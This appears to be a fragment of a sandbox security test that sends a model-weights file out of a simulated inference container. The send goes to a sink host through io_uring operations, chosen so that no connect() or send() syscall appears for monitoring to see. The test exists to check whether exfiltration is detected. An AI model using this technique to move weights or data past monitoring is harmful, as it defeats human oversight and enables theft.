# VN4 EXF-001 through io_uring: IORING_OP_CONNECT and IORING_OP_SEND, no connect() or send*() syscall
gcc -O2 -o "$H/bin/uring_send" "$SRC/uring_send.c"
ctr_run simctr-infer-vn4 ctr-infer --mount --pid --fork --mount-proc -- \
  "$H/bin/uring_send" 10.200.2.2 9000 "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
grep ':9000' "$H/sink.log" | tail -1
